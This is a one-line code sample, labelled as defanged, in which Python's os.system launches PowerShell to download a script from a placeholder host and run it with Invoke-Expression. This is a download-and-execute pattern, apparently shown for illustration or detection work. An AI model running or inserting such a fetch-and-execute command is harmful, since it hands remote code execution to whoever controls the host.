# defanged sample
os.system('powershell -c "iwr https://a.example.invalid/x | iex"')
